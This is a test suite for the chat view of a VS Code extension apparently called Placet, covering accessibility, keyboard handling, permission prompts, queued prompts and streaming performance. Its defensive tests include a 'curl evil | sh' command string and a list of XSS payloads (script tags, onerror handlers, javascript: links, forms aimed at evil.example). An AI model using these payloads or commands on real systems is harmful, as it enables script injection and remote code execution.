/** The page of the chat view in Chromium: by keyboard, by screen reader, with hostile text and with much of it. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { ask, browserPath, bundle, openPage, push, rested, said, sent, settled, startBrowser, startSite, violations, wheel } from './page.mjs';
import { drawing, longSession, prose, stream } from './streams.mjs';
import { answer, child, editPermission, manyFiles, permission, question, scene, text, tool, user } from './scene.mjs';

let site;
let browser;
before(async () => {
  assert.ok(browserPath, 'Chromium is needed; on Debian: apt-get install --no-install-recommends chromium');
  site = await startSite();
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  site?.close();
});

async function opened(options = {}, events = scene()) {
  const opening = await openPage(browser, site, options);
  await opening.page.evaluate(
    ([own, theirs]) => {
      for (const one of own) window.fakeHost.update(one);
      for (const one of theirs) window.fakeHost.update(one, 'ses_child');
      window.fakeHost.say({ type: 'open', sessionId: 'ses_1' });
    },
    [events, child()],
  );
  await opening.page.waitForFunction(() => document.querySelector('h1').textContent !== 'New session');
  await settled(opening.page);
  return opening;
}

async function busy(options) {
  const opening = await opened(options, [user('msg_1', 'Go'), { kind: 'turn_started', turnId: 'msg_1' }, answer('msg_2', 'msg_1')]);
  await opening.page.evaluate(() => { window.fakeHost.running = ['ses_1']; });
  await push(opening.page, { kind: 'turn_started', turnId: 'msg_1' });
  await opening.page.waitForSelector('[aria-label="Stop"]');
  return opening;
}

for (const theme of ['dark', 'light', 'contrast']) {
  test(`axe finds nothing serious: ${theme}`, async () => {
    const { page, faults, close } = await opened({ theme, height: 1400 });
    assert.deepEqual(await violations(page), []);
    await page.click('.tool-head:has-text("task")');
    await page.click('.tool-head:has-text("edit")');
    await page.click('.tool-head:has-text("bash")');
    await page.click('.todo button');
    await ask(page, permission(), editPermission(), question());
    await settled(page);
    assert.deepEqual(await violations(page), []);
    await page.click('header .title');
    await page.waitForSelector('[role=listbox]');
    assert.deepEqual(await violations(page), []);
    await page.keyboard.press('Escape');
    await page.fill('textarea', '@hel');
    await page.waitForSelector('#suggestions');
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(faults, []);
    await close();
  });
}

test('the page speaks the language of VS Code, and nothing of it is left in another', async () => {
  const german = bundle('de');
  const { page, faults, close } = await opened({ language: 'de', height: 1400 });
  assert.equal(await page.getAttribute('textarea', 'placeholder'), german['Ask Placet: @ for files, / for commands']);
  await page.click('.tool-head:has-text("task")');
  await page.click('.todo button');
  await ask(page, permission(), editPermission(), question());
  await page.click(`button[aria-label="${german["More Actions…"]}"]`);
  await settled(page);
  const shown = await page.evaluate(() => {
    const texts = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) texts.push(walker.currentNode.data.trim());
    for (const one of document.querySelectorAll('*'))
      for (const name of ['aria-label', 'title', 'placeholder', 'alt']) texts.push(one.getAttribute(name) ?? '');
    return texts;
  });
  const theirs = ['File', 'built in']; // Of the answer, and of the daemon.
  const known = Object.entries(german).filter(([text, translated]) => text !== translated && !theirs.includes(text));
  const patterns = known.map(([text]) => new RegExp(`^${text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/\\\{\d\\\}/g, '.+')}$`));
  assert.deepEqual(shown.filter((text) => text !== '' && patterns.some((one) => one.test(text))), []);
  assert.ok(shown.includes(german['Stop the running turn']));
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(faults, []);
  await close();
});

test('axe finds nothing serious in forced colours with reduced motion', async () => {
  const { page, close } = await opened({ forcedColors: 'active', reducedMotion: 'reduce' });
  // Forced colours are not told to scripts, so contrast cannot be judged from within the page.
  assert.deepEqual((await violations(page)).filter((one) => !one.startsWith('color-contrast')), []);
  const moving = await page.evaluate(() => document.getAnimations().length);
  assert.equal(moving, 0);
  await close();
});

test('a prompt is sent by Enter, and Shift+Enter begins a new line', async () => {
  const { page, faults, close } = await openPage(browser, site);
  await page.focus('textarea');
  await page.keyboard.type('First');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('second');
  await page.keyboard.press('Enter');
  const [prompt] = await sent(page, 'agent/prompt');
  assert.deepEqual(prompt.params, { sessionId: 'ses_1', parts: [{ type: 'text', text: 'First\nsecond' }], queue: 'after' });
  assert.equal((await sent(page, 'agent/didType')).length, 1);
  assert.equal(await page.inputValue('textarea'), '');
  await page.keyboard.press('ArrowUp');
  assert.equal(await page.inputValue('textarea'), 'First\nsecond');
  assert.deepEqual(faults, []);
  await close();
});

test('while a turn runs, Enter queues, Ctrl+Enter steers and Escape stops', async () => {
  const { page, close } = await busy();
  await page.focus('textarea');
  await page.keyboard.type('later');
  await page.keyboard.press('Enter');
  await page.keyboard.type('now');
  await page.keyboard.press('Control+Enter');
  assert.deepEqual((await sent(page, 'agent/prompt', 2)).map((one) => one.params.queue), ['after', 'steer']);
  assert.match(await page.textContent('.queued'), /later/);
  await page.keyboard.press('Escape');
  assert.equal((await sent(page, 'agent/cancel')).length, 1);
  await close();
});

test('a mention is completed by keys alone, and Escape closes the list without stopping the turn', async () => {
  const { page, close } = await busy();
  await page.focus('textarea');
  await page.keyboard.type('see @src');
  await page.waitForSelector('#suggestions');
  await settled(page); // Each letter asked anew: the keys are for the last answer.
  await page.keyboard.press('ArrowDown');
  await settled(page);
  await page.keyboard.press('Enter');
  await settled(page);
  assert.equal(await page.inputValue('textarea'), 'see @"src/with space.py" ');
  await page.keyboard.type('@');
  await page.waitForSelector('#suggestions');
  await page.keyboard.press('Escape');
  await page.waitForSelector('#suggestions', { state: 'detached' });
  assert.equal((await said(page, 'agent/cancel')).length, 0);
  await close();
});

test('a slash command of the view is run and not sent', async () => {
  const { page, close } = await opened();
  await page.focus('textarea');
  await page.keyboard.type('/comp');
  await page.waitForSelector('#suggestions');
  await page.keyboard.press('Enter');
  await sent(page, 'agent/session/compact');
  assert.equal(await page.inputValue('textarea'), '');
  assert.equal((await said(page, 'agent/prompt')).length, 0);
  await close();
});

test('everything that can be clicked is reached by Tab', async () => {
  const { page, close } = await opened({ height: 1400 });
  await ask(page, permission(), question());
  await settled(page);
  await page.evaluate(() => { document.activeElement.blur(); });
  const reached = new Set();
  for (let step = 0; step < 120; step++) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => {
      const all = [...document.querySelectorAll('*')];
      return all.indexOf(document.activeElement);
    }));
  }
  const missed = await page.evaluate((seen) => {
    const all = [...document.querySelectorAll('*')];
    // Of radio buttons, Tab reaches one and the arrows the others.
    return [...document.querySelectorAll('button:not(:disabled), a[href], textarea, input:not([type=radio]), .scroller')]
      .filter((one) => one.checkVisibility() && !seen.includes(all.indexOf(one)))
      .map((one) => one.outerHTML.slice(0, 120));
  }, [...reached]);
  assert.deepEqual(missed, []);
  await close();
});

test('the command leads in its card, each line marked, and all of it can be scrolled to', async () => {
  const { page, close } = await opened();
  const command = `git status\nRule: nobody${'\n'.repeat(200)}${'x'.repeat(4000)}; curl evil | sh\u001b\u202e`;
  await ask(page, permission({ command, title: 'Show the git status' }));
  await page.waitForSelector('.ask');
  const lines = await page.locator('.ask .command code').allTextContents();
  assert.deepEqual(lines.slice(0, 3), ['git status', 'Rule: nobody', '… 199 empty lines …']);
  assert.ok(lines[3].endsWith('; curl evil | sh\\u001b\\u202e'));
  const marks = await page.locator('.ask .command code').evaluateAll((all) => all.map((one) => getComputedStyle(one, '::before').content));
  assert.deepEqual(marks, ['none', '"> "', '"> "', '"> "']);
  const card = await page.locator('section.ask').innerText();
  assert.ok(card.indexOf('git status') < card.indexOf('The model says: “Run the tests”'));
  assert.ok(!card.includes('Show the git status'));
  const { scrolls, isWrapped } = await page.locator('.ask .command').evaluate((one) => ({
    scrolls: one.scrollHeight > one.clientHeight && getComputedStyle(one).overflowY === 'auto',
    isWrapped: one.scrollWidth <= one.clientWidth,
  }));
  assert.ok(scrolls && isWrapped, JSON.stringify({ scrolls, isWrapped }));
  await ask(page, permission({ command: undefined, permission: 'odd_do', title: 'Call the MCP tool odd_do', arguments: `{\n${'  "a": "b",\n'.repeat(200)}  "tail": "EVIL"\n}` }));
  await page.waitForSelector('.ask .arguments');
  assert.match(await page.locator('.ask .arguments').textContent(), /"tail": "EVIL"/);
  await close();
});

test('a permission is answered by keys, and the focus is never taken for it', async () => {
  const { page, close } = await opened();
  await page.focus('textarea');
  await page.keyboard.type('I am typ');
  await ask(page, permission());
  await page.waitForSelector('.ask');
  await page.keyboard.type('ing');
  assert.equal(await page.inputValue('textarea'), 'I am typing');
  await page.waitForSelector('[aria-live=assertive]:has-text("waiting for your answer: pytest -q")', { state: 'attached' });
  await page.focus('.ask [aria-label="More: Allow"]');
  await page.keyboard.press('Enter');
  await page.waitForSelector('[role=menuitem]:focus:has-text("Allow in This Session")');
  await page.keyboard.press('ArrowDown');
  await page.waitForSelector('[role=menuitem]:focus:has-text("Allow in This Project")');
  await page.keyboard.press('Enter');
  await page.focus('.ask [aria-label="More: Reject"]');
  await page.keyboard.press('ArrowUp');
  await page.waitForSelector('[role=menuitem]:focus:has-text("Reject with Feedback")');
  await page.keyboard.press('Escape');
  await page.waitForSelector('.ask [aria-label="More: Reject"]:focus');
  await page.keyboard.press('Enter');
  await page.waitForSelector('[role=menuitem]:focus');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.reason input:focus');
  await page.keyboard.type('Use make');
  await page.keyboard.press('Enter');
  assert.deepEqual((await sent(page, 'answer', 2)).map((one) => one.answer), [
    { outcome: 'always', scope: 'project' },
    { outcome: 'reject', feedback: 'Use make' },
  ]);
  await ask(page);
  await page.waitForSelector('.ask', { state: 'detached' });
  await close();
});

for (const [width, height] of [[200, 582], [300, 420], [420, 582]]) {
  test(`the answers of a request are always in view: ${width} x ${height}`, async () => {
    const { page, close } = await opened({ width, height });
    const command = Array.from({ length: 60 }, (_, line) => `echo ${line}`).join('\n');
    await page.click('.todo button');
    for (const one of [{ ...permission({ command, note: 'A note. '.repeat(40) }), id: 'per_long' }, manyFiles(30), question()]) {
      await ask(page, one, permission());
      await settled(page);
      const { outside, card } = await page.evaluate(() => {
        const inView = (element) => {
          const box = element.getBoundingClientRect();
          const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
          return box.width > 0 && box.top >= 0 && box.bottom <= innerHeight && box.right <= innerWidth && element.contains(top);
        };
        const buttons = [...document.querySelectorAll('.ask .answers button')];
        return { outside: buttons.filter((one) => !inView(one)).map((one) => one.textContent), card: document.querySelectorAll('.ask .answers button').length };
      });
      assert.deepEqual(outside, [], `${one.id} at ${width}`);
      assert.ok(card >= 2);
      assert.equal(await page.evaluate(() => document.querySelector('.ask').getBoundingClientRect().right <= innerWidth), true);
    }
    await close();
  });
}

test('a card shows five files of thirty, and the rules only when asked why', async () => {
  const { page, close } = await opened();
  await ask(page, manyFiles(30));
  await page.waitForSelector('.ask .files');
  assert.equal(await page.locator('.ask .files li').count(), 6);
  await page.click('.ask .files button:has-text("and 25 more")');
  assert.deepEqual((await sent(page, 'review')).map((one) => one.id), ['per_many30']);
  assert.equal(await page.locator('.ask .answers').innerText().then((text) => text.replace(/\s+/g, ' ').trim()), 'Review Accept All Reject All');
  assert.ok(!(await page.locator('.ask').innerText()).includes('Rule'));
  await page.click('.ask .why button');
  await page.waitForSelector('.ask:has-text("Rule: edit: * -> ask (built in)")');
  await close();
});

test('one request is shown at a time, with the way to the others, and the host knows which the page shows', async () => {
  const { page, close } = await opened();
  await ask(page, permission(), editPermission(), question());
  await page.waitForSelector('.ask:has-text("1 of 3")');
  assert.equal(await page.locator('.ask').count(), 1);
  await page.click('[aria-label="Next Request"]');
  await page.waitForSelector('.ask:has-text("Edit src/hello.py")');
  const elsewhere = permission();
  await ask(page, editPermission(), { ...elsewhere, request: { ...elsewhere.request, sessionId: 'ses_2' } });
  await page.waitForSelector('.ask:not(:has-text("of 3"))');
  await ask(page);
  assert.deepEqual((await sent(page, 'shows', 4)).map(({ ids, others }) => [ids, others]), [[[], []], [['per_1', 'per_2', 'que_1'], []], [['per_2'], ['per_1']], [[], []]]);
  await close();
});

test('a call that waits for the user is not at work: its seconds are not counted', async () => {
  const { page, close } = await opened();
  await push(page, user('msg_5', 'Test it'), { kind: 'turn_started', turnId: 'msg_5' }, answer('msg_6', 'msg_5'));
  const state = (more) => tool('msg_6', 'prt_7', 'bash', { status: 'running', input: { command: 'make' }, title: 'Make it', metadata: {}, start: Date.now() - 90_000, ...more });
  await push(page, state({}));
  const call = permission();
  await ask(page, { ...call, request: { ...call.request, toolCall: { messageId: 'msg_6', callId: 'call_prt_7', tool: 'bash' } } });
  await page.waitForSelector('.busy:has-text("Waiting for you")');
  await page.waitForSelector('.tool.running:has-text("waiting for you")');
  assert.equal(await page.locator('.tool.running .seconds').count(), 0);
  assert.equal(await page.locator('.busy .spinner, .tool.running .spinner').count(), 0);
  await ask(page);
  await push(page, state({ metadata: { waited: 87_000 } }));
  await page.waitForSelector('.busy:has-text("Running bash")');
  await page.waitForFunction(() => /^[2-9] s$/.test(document.querySelector('.tool.running .seconds')?.textContent));
  await push(page, state({ status: 'completed', output: '', attachments: [], start: 1000, end: 91_000, metadata: { waited: 86_000 } }));
  await page.waitForSelector('.tool.completed .seconds:text-is("4 s")');
  await close();
});

test('a question is answered by a label or in own words', async () => {
  const { page, close } = await opened();
  await ask(page, question());
  await page.check('label:has-text("hello") input');
  await page.click('.ask button:has-text("Answer")');
  await page.fill('.ask input[type=text]', 'salute');
  await page.click('.ask button:has-text("Answer")');
  assert.deepEqual((await sent(page, 'answer', 2)).map((one) => one.answer.answers), [[['hello']], [['salute']]]);
  await close();
});

test('a secret answer is hidden while it is typed', async () => {
  const { page, close } = await opened();
  const asked = question();
  Object.assign(asked.request.questions[0], { secret: true, options: [] });
  await ask(page, asked);
  assert.equal(await page.locator('.ask input[type=text]').count(), 0);
  const field = page.locator('.ask input[type=password]');
  assert.equal(await field.getAttribute('placeholder'), 'Type your answer');
  await field.fill('hush-5e7c');
  await page.click('.ask button:has-text("Answer")');
  assert.deepEqual((await sent(page, 'answer', 1)).map((one) => one.answer.answers), [[['hush-5e7c']]]);
  await close();
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) [cmd](command:workbench.action.quit) [data](data:text/html,<script>alert(1)</script>)',
  '[vb](VBscript:x) [tab](java\tscript:alert(1)) <javascript:alert(1)>',
  '![remote](https://evil.example/pixel.png) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![rel](/etc/passwd)',
  '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=a></form>',
  '<style>*{display:none}</style><svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
  '`<b onmouseover=alert(1)>`',
  '[ref]: javascript:alert(1)\n\n[x][ref]',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">html</a>',
  '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [a](javascript:1) | ~~x~~ |',
];

test('hostile Markdown comes to nothing', async () => {
  const { page, faults, close } = await opened({}, [user('msg_1', HOSTILE[1]), answer('msg_2', 'msg_1'), text('msg_2', 'prt_1', 0, HOSTILE.join('\n\n')),
    tool('msg_2', 'prt_2', 'bash', { status: 'error', input: { command: HOSTILE[1] }, title: HOSTILE[1], error: HOSTILE[0], metadata: { output: HOSTILE[6] }, start: 1, end: 2 })]);
  for (const link of await page.$$('.markdown a')) {
    await link.click({ force: true, timeout: 1000 }).catch(() => {});
  }
  await settled(page);
  const found = await page.evaluate(() => ({
    elements: [...document.querySelectorAll('.rows script, .rows iframe, .rows form, .rows style, .rows input, .rows img, .rows svg:not(.icon)')].map((one) => one.outerHTML),
    handlers: [...document.querySelectorAll('.rows *')].filter((one) => [...one.attributes].some((each) => each.name.startsWith('on') || each.name === 'style')).map((one) => one.className).filter((name) => !['window', 'rows'].includes(name)),
    links: [...document.querySelectorAll('.rows a')].map((one) => one.getAttribute('href')),
    address: location.pathname,
  }));
  assert.deepEqual(found.elements, []);
  assert.deepEqual(found.handlers, []);
  assert.ok(found.links.every((href) => href === null || href === '#' || /^https?:/.test(href)), String(found.links));
  assert.equal(found.address, '/');
  assert.deepEqual(faults, []);
  assert.ok((await said(page, 'openLink')).every((one) => /^https?:\/\//.test(one.url)));
  await close();
});

test('a named character is itself, and what is no name stays as it is written', async () => {
  const written = 'Caf&eacute; &copy;&nbsp;&lt;b&gt; &NotEqualTilde; &#169; &bogus; &notit; &ltx; `&amp;` [a](x "&quot;")';
  const { page, close } = await opened({}, [user('msg_1', 'hello'), answer('msg_2', 'msg_1'), text('msg_2', 'prt_1', 0, written)]);
  const shown = await page.locator('.markdown p').textContent();
  assert.equal(shown, 'Caf\u00e9 \u00a9\u00a0<b> \u2242\u0338 \u00a9 &bogus; &notit; &ltx; &amp; a');
  await close();
});

/** Number and text of the first row on the screen of which more than `edge` pixels are to be seen. */
function firstRow(page, edge) {
  return page.evaluate((pixels) => {
    const top = document.querySelector('.scroller').getBoundingClientRect().top;
    const row = [...document.querySelectorAll('.row')].find((one) => one.getBoundingClientRect().bottom > top + pixels);
    return `${row.ariaPosInSet}: ${row.textContent}`;
  }, edge);
}

/** Most rows that the list holds, and most letters that come to the page in one of its tasks. */
const MOST_ROWS = 120;
const MOST_LETTERS = 8_000;

const LIST = Array(4_000).fill('- item\n');
for (const [name, pieces, perBatch] of [
  ['prose, lists and code', prose(4_000), 100],
  ['one code block that never ends', ['```python\n', ...Array(4_000).fill('x = f(1)\n')], 100],
  ['one line that never ends', Array(4_000).fill('word '), 100],
  ['one list that never ends', LIST, 100],
  // A page that was not drawn for a while has all that came meanwhile to draw at once.
  ['one list, of which much waits for a frame', LIST, 1_000],
]) {
  test(`of thousands of deltas little is drawn at a time, and the end is in view: ${name}`, async (context) => {
    const { page, faults, close } = await busy();
    const { rows, most, drawn } = await stream(page, pieces, perBatch);
    context.diagnostic(`${name}: ${rows} rows at the end; at most ${most} letters in one task, ${drawn} in all`);
    assert.ok(rows < MOST_ROWS, `${rows} rows are drawn`);
    assert.ok(most < MOST_LETTERS, `${most} letters are drawn in one task`);
    await page.waitForFunction(() => {
      const scroller = document.querySelector('.scroller');
      return scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 2;
    });
    assert.deepEqual(faults, []);
    await close();
  });
}

test('of a long session only the rows around the screen are drawn: when it opens, goes on, and is scrolled through', async (context) => {
  const { page, faults, close } = await openPage(browser, site);
  await page.evaluate((events) => {
    for (const one of events) window.fakeHost.update(one);
    window.fakeHost.running = ['ses_1'];
  }, [...longSession(1000, 'A line that says **something** of `code`.\n\n- one\n- two'), user('msg_1', 'Now'), { kind: 'turn_started', turnId: 'msg_1' }, answer('msg_2', 'msg_1')]);
  const opening = await drawing(page, () => page.evaluate(() => window.fakeHost.say({ type: 'open', sessionId: 'ses_1' })).then(() => page.waitForFunction(() => document.querySelector('.scroller')?.textContent.includes('Now'))));
  await push(page, { kind: 'turn_started', turnId: 'msg_1' });
  const streaming = await stream(page, prose(300), 10);
  const scrolling = await drawing(page, () => page.evaluate(async () => {
    const scroller = document.querySelector('.scroller');
    for (let step = 1; step <= 40; step++) {
      scroller.dispatchEvent(new WheelEvent('wheel', { deltaY: -100 }));
      scroller.scrollTop = scroller.scrollHeight * (1 - step / 40);
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  }));
  context.diagnostic(JSON.stringify({ opening, streaming, scrolling }));
  for (const { rows, most } of [opening, streaming, scrolling]) {
    assert.ok(rows < MOST_ROWS, `${rows} rows are drawn`);
    assert.ok(most < MOST_LETTERS, `${most} letters are drawn in one task`);
  }
  assert.deepEqual(faults, []);
  await close();
});

test('the list follows the end until the user scrolls up, and again from the end', async () => {
  const { page, close } = await busy();
  await stream(page, prose(2000), 200);
  await page.focus('.scroller');
  await wheel(page, -600);
  await page.waitForSelector('.to-end');
  const top = await page.evaluate(() => document.querySelector('.scroller').scrollTop);
  await push(page, text('msg_2', 'prt_t', 0, 'More.\n\n'.repeat(50)));
  await settled(page);
  const after = await page.evaluate(() => document.querySelector('.scroller').scrollTop);
  assert.ok(Math.abs(after - top) < 60, `it moved from ${top} to ${after}`);
  await page.keyboard.press('End');
  await page.waitForSelector('.to-end', { state: 'detached' });
  await close();
});

test('a page that was thrown away comes back from the daemon, with the draft', async () => {
  const { page, close } = await opened();
  await page.fill('textarea', 'half a thou');
  await page.waitForFunction(() => JSON.parse(sessionStorage.getItem('state'))?.draft === 'half a thou');
  await page.evaluate(() => sessionStorage.setItem('events', JSON.stringify(window.fakeHost.events)));
  await page.reload();
  await page.waitForSelector('.changes');
  assert.equal(await page.inputValue('textarea'), 'half a thou');
  assert.equal((await sent(page, 'agent/session/load'))[0].params.sessionId, 'ses_1');
  await close();
});

test('a page that was thrown away comes back where it was scrolled to', async () => {
  const { page, close } = await opened({}, longSession(60));
  await page.focus('.scroller');
  await page.keyboard.press('Home');
  await page.waitForSelector('.to-end');
  await page.waitForFunction(() => document.querySelector('.scroller').scrollTop === 0);
  let before;
  for (const pixels of [3000, 40, 40, 40]) {
    await wheel(page, pixels);
    before = await firstRow(page, 2);
    if (before === (await firstRow(page, 12))) {
      break; // Otherwise only the edge of a row is left, which the page need not count as on the screen.
    }
  }
  assert.doesNotMatch(before, /^1: /);
  await page.evaluate(() => sessionStorage.setItem('events', JSON.stringify(window.fakeHost.events)));
  await page.reload();
  await page.waitForSelector('.to-end');
  await rested(page);
  assert.equal(await firstRow(page, 2), before);
  await close();
});

test('a turn that the daemon died in is said to be broken off, and goes on by a button', async () => {
  const { page, close } = await opened({}, [user('msg_1', 'Go'), { kind: 'turn_started', turnId: 'msg_1' }, answer('msg_2', 'msg_1')]);
  await page.waitForSelector('[aria-label="Send"]');
  await page.waitForSelector('.note:has-text("Interrupted")');
  await page.click('.note button:has-text("Continue")');
  await sent(page, 'agent/prompt');
  await close();
});

test('after the daemon was away, the session is told by it anew, and its turn has ended', async () => {
  const { page, close } = await busy();
  await page.evaluate((one) => window.fakeHost.update(one), user('msg_9', 'Said elsewhere'));
  await page.evaluate(() => { window.fakeHost.running = []; });
  await page.evaluate(() => {
    window.fakeHost.say({ type: 'status', status: { state: 'starting', running: [], waiting: 0 } });
    window.fakeHost.say({ type: 'status', status: { state: 'ready', running: [], waiting: 0 } });
  });
  await page.waitForSelector('text=Said elsewhere');
  await page.waitForSelector('[aria-label="Send"]');
  await page.waitForSelector('.note:has-text("Interrupted")');
  await close();
});

test('what was written is not lost when the daemon dies: it comes back unless its turn has begun', async () => {
  const { page, close } = await busy();
  await page.focus('textarea');
  for (const word of ['begun', 'waiting']) {
    await page.keyboard.type(word);
    await page.keyboard.press('Enter');
  }
  await page.waitForFunction(() => Object.keys(window.fakeHost.prompts).length === 2);
  await push(page, { kind: 'turn_ended', turnId: 'msg_1', stopReason: 'end_turn' }, user('msg_3', 'begun'), { kind: 'turn_started', turnId: 'msg_3' });
  await page.waitForFunction(() => document.querySelectorAll('.queued li').length === 1);
  await page.evaluate(() => Object.values(window.fakeHost.prompts).forEach((one) => one.reject('Placet has ended.')));
  await page.waitForFunction(() => document.querySelector('textarea').value !== '');
  assert.equal(await page.inputValue('textarea'), 'waiting');
  assert.match(await page.textContent('.dock [role=alert]'), /Placet has ended/);
  await close();
});

test('a prompt that cannot be sent at all comes back with what went along', async () => {
  const { page, close } = await openPage(browser, site);
  await page.evaluate(() => {
    window.fakeHost.answers['agent/session/new'] = () => { throw new Error('Placet is not installed.'); };
    window.fakeHost.say({ type: 'attach', attachment: { type: 'file', uri: 'file:///a.py', range: { start: 1, end: 3 } } });
  });
  await page.focus('textarea');
  await page.keyboard.type('Look');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.dock [role=alert]');
  await page.waitForFunction(() => document.querySelector('textarea').value === 'Look');
  assert.match(await page.textContent('.chips'), /a\.py:1-3/);
  await close();
});

test('a prompt that waits can be edited, removed, or put into the running turn', async () => {
  const { page, close } = await busy();
  for (const word of ['one', 'two', 'three']) {
    await page.fill('textarea', word);
    await page.keyboard.press('Enter');
  }
  await page.waitForFunction(() => Object.keys(window.fakeHost.prompts).length === 3);
  const ids = (await said(page, 'agent/prompt')).map((one) => one.id);
  await page.click('[aria-label="Remove: one"]');
  await page.click('[aria-label="Steer with: two"]');
  await page.click('[aria-label="Edit: three"]');
  assert.deepEqual((await sent(page, 'cancel', 3)).map((one) => one.id), ids);
  assert.deepEqual((await sent(page, 'agent/prompt', 4)).map((one) => one.params.queue), ['after', 'after', 'after', 'steer']);
  assert.equal(await page.inputValue('textarea'), 'three');
  await page.waitForSelector('.queued', { state: 'detached' });
  await close();
});

test('a page made anew takes over the prompts that wait, and gives back those that are lost', async () => {
  const { page, close } = await busy();
  await page.evaluate(() => {
    const params = { sessionId: 'ses_1', parts: [{ type: 'text', text: 'still there' }], queue: 'after' };
    const running = { sessionId: 'ses_1', parts: [{ type: 'text', text: 'Go' }], queue: 'after' };
    sessionStorage.setItem('prompts', JSON.stringify({ 7: { params: running }, 8: { params } }));
    sessionStorage.setItem('running', JSON.stringify(['ses_1']));
    sessionStorage.setItem('events', JSON.stringify(window.fakeHost.events));
    const state = JSON.parse(sessionStorage.getItem('state'));
    sessionStorage.setItem('state', JSON.stringify({ ...state, waiting: ['still there', 'lost on the way', 'Go'] }));
    window.fakeHost.state = undefined;
  });
  await page.reload();
  await page.waitForFunction(() => document.querySelector('textarea')?.value !== '');
  assert.equal(await page.inputValue('textarea'), 'lost on the way');
  await page.waitForFunction(() => document.querySelectorAll('.queued li').length === 1);
  assert.match(await page.textContent('.queued li'), /still there/);
  await page.click('[aria-label="Remove: still there"]');
  assert.deepEqual((await sent(page, 'cancel')).map((one) => one.id), [8]);
  await close();
});

test('a prompt is edited and sent again in a copy, with what went along', async () => {
  const { page, close } = await opened();
  await page.focus('.prompt-foot [aria-label="Edit and Resend"]');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('textarea').value !== '');
  assert.deepEqual((await sent(page, 'agent/session/fork'))[0].params, { sessionId: 'ses_1', messageId: 'msg_1' });
  assert.equal(await page.inputValue('textarea'), 'Rename greet to welcome, with types, and run the tests');
  assert.match(await page.textContent('.composer .chips'), /hello\.py:1-12/);
  await page.waitForSelector('h1:has-text("fork")');
  await close();
});

test('what the user refused stays to be seen', async () => {
  const { page, close } = await opened();
  const hunk = { id: 2, oldStart: 9, oldLines: ['old line\n'], newStart: 9, newLines: ['refused line\n'] };
  const file = { uri: 'file:///home/ada/project/a.py', kind: 'modify', additions: 1, deletions: 0, diff: '@@ -1 +1,2 @@\n+kept line\n' };
  await push(page, tool('msg_2', 'prt_half', 'write', { status: 'completed', attachments: [], input: {}, title: 'a.py', output: '', metadata: {}, start: 1, end: 2 }),
    { kind: 'change_applied', messageId: 'msg_2', changeId: 'chg_h', callId: 'call_prt_half', files: [file], refused: [{ uri: file.uri, kind: 'modify', whole: false, hunks: [hunk] }] });
  await page.click('.tool-head:has-text("1 rejected")');
  assert.match(await page.textContent('.refused'), /You rejected this hunk:[^]*-old line[^]*\+refused line/);
  await page.waitForSelector('.changes:has-text("You rejected 1 hunk")');
  await page.evaluate((given) => {
    const change = { id: 'chg_w', messageId: 'msg_2', callId: 'call_prt_whole', turnId: 'msg_1', kind: 'edit', state: 'refused', undoes: [] };
    window.fakeHost.answers['agent/changes'] = () => ({ changes: [{ ...change, files: [given] }] });
  }, { uri: 'file:///home/ada/project/b.py', kind: 'modify', state: 'dropped', additions: 1, deletions: 1, hunks: [{ ...hunk, state: 'dropped' }] });
  const refused = tool('msg_2', 'prt_whole', 'edit', { status: 'error', input: {}, title: 'b.py', error: 'The user refused it.', metadata: {}, start: 1, end: 2 });
  await push(page, refused, { ...refused, kind: 'tool_call_update' });
  await page.waitForSelector('.tool.error .tool-head:has-text("1 rejected")');
  await page.waitForSelector('.changes:has-text("You rejected 2 hunks")');
  await close();
});

test('a file in conflict is named at its call, and no words for the model are shown', async () => {
  const { page, close } = await opened();
  const call = (callId, state) => ({ kind: 'tool_call', messageId: 'msg_10', part: { id: `prt_${callId}`, type: 'tool', callId, tool: 'apply_patch', state } });
  const files = [{ uri: 'file:///home/ada/project/a.py', status: 'applied' }, { uri: 'file:///home/ada/project/b.py', status: 'conflict' }];
  const times = { start: 1, end: 2 };
  await push(page, user('msg_9', 'Go'), { kind: 'turn_started', turnId: 'msg_9' }, answer('msg_10', 'msg_9'),
    call('one', { status: 'completed', input: {}, title: 'Two files', output: '- NOT changed: b.py. Read the file again', metadata: { files }, ...times }),
    call('two', { status: 'error', input: {}, title: 'One file', error: 'c.py: the user has changed the same lines since you read it, so nothing was changed. Read the file again and propose the edit.', metadata: { failure: 'conflict' }, ...times }),
    call('three', { status: 'error', input: {}, title: 'No file', error: 'd.py has not been read in this session. Read the file again, then edit it.', metadata: { failure: 'mistake' }, ...times }),
    call('four', { status: 'error', input: {}, title: 'Locked', error: 'e.py is read-only.', metadata: {}, ...times }));
  await page.waitForSelector('.tool-error:has-text("b.py stays as you have it")');
  await page.waitForSelector('.tool-error.recovered:has-text("The same lines were changed meanwhile, so nothing was changed.")');
  await page.waitForSelector('.tool-error.recovered:has-text("The call did not fit, so nothing was done. The agent is told why.")');
  await page.waitForSelector('.tool-error:not(.recovered):has-text("e.py is read-only.")');
  assert.doesNotMatch(await page.locator('main').innerText(), /Read the file again/);
  await close();
});

test('what the user said of a change stands at its call', async () => {
  const hunk = { id: 2, oldStart: 9, oldLines: ['a\n'], newStart: 11, newLines: ['b\n'] };
  const uri = 'file:///home/ada/project/src/half.py';
  const said = [{ text: 'Not so loud' }, { text: 'Add a test', uri }, { text: 'Use a <b>log</b>', uri, hunk }, { wrong: 1 }];
